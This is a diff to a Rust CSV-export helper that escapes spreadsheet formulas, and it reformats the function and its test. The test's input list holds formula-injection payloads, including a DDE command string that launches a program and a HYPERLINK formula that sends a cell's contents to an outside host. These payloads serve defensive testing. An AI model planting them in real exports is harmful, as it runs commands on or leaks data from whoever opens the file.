@@ -37,7 +37,11 @@ fn is_formula(text: &str) -> bool {
 /// where a spreadsheet would run it. Numbers stay numbers.
 pub fn csv_cell(text: &str) -> String {
     let safe = if is_formula(text) { format!("'{text}") } else { text.to_owned() };
-    if safe.contains([',', ';', '"', '\n', '\r', '\t', '#']) { format!("\"{}\"", safe.replace('"', "\"\"")) } else { safe }
+    if safe.contains([',', ';', '"', '\n', '\r', '\t', '#']) {
+        format!("\"{}\"", safe.replace('"', "\"\""))
+    } else {
+        safe
+    }
 }
 
 /// A text in a line of remarks, behind `#`: it stays on its line, and no part of it that a spreadsheet puts in a cell of its own
@@ -76,7 +80,16 @@ mod tests {
 
     #[test]
     fn no_cell_is_a_formula_and_numbers_stay_numbers() {
-        for text in ["=1+1", "+x", "-x", "@SUM(1+1)", "\tx", "\r=1", "-1+cmd|' /C calc'!A0", "=HYPERLINK(\"http://e/?\"&A1,\"x\")"] {
+        for text in [
+            "=1+1",
+            "+x",
+            "-x",
+            "@SUM(1+1)",
+            "\tx",
+            "\r=1",
+            "-1+cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://e/?\"&A1,\"x\")",
+        ] {
             let cell = csv_cell(text);
             assert!(cell.trim_start_matches('"').starts_with('\''), "{cell}");
         }
